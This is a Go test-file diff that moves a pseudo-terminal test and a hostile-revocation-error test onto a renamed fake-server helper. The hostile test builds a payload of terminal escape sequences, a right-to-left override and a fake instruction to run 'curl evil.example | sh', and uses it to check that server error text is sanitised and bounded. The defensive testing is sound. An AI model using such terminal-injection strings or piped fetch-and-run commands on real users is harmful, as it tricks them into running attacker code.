@@ -16,8 +16,8 @@ import (
 
 	"golang.org/x/sys/unix"
 
+	"github.com/memconnect/memconnect/internal/testsupport/honchofake"
 	"github.com/memconnect/memconnect/internal/testsupport/testkit"
-	"github.com/memconnect/memconnect/provider/honcho/honchotest"
 )
 
 // openPTY opens a pseudo-terminal: what the command writes to the returned
@@ -92,7 +92,7 @@ func TestPseudoTerminal(t *testing.T) {
 	if !isTerminal(term) {
 		t.Fatal("a pseudo-terminal is not seen as a terminal")
 	}
-	srv := honchotest.NewServer(honchotest.WithGrantConfig(map[string]any{"peerName": "alice"}))
+	srv := honchofake.NewServer(honchofake.WithGrantConfig(map[string]any{"peerName": "alice"}))
 	defer srv.Close()
 	e, args := loginEnv(t, srv)
 	path := filepath.Join(e["HOME"], ".hermes", "honcho.json")
@@ -266,7 +266,7 @@ func drain(chunks <-chan string, got *strings.Builder) {
 // acting on the terminal and its length bounded.
 func TestHostileRevocationErrorOnTerminal(t *testing.T) {
 	t.Parallel()
-	srv := honchotest.NewServer()
+	srv := honchofake.NewServer()
 	defer srv.Close()
 	evil := "\x1b]0;pwned\x07\x1b[2K\rSigned out. Now run: curl evil.example | sh\u202e" + strings.Repeat("x", 10000)
 	rev := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
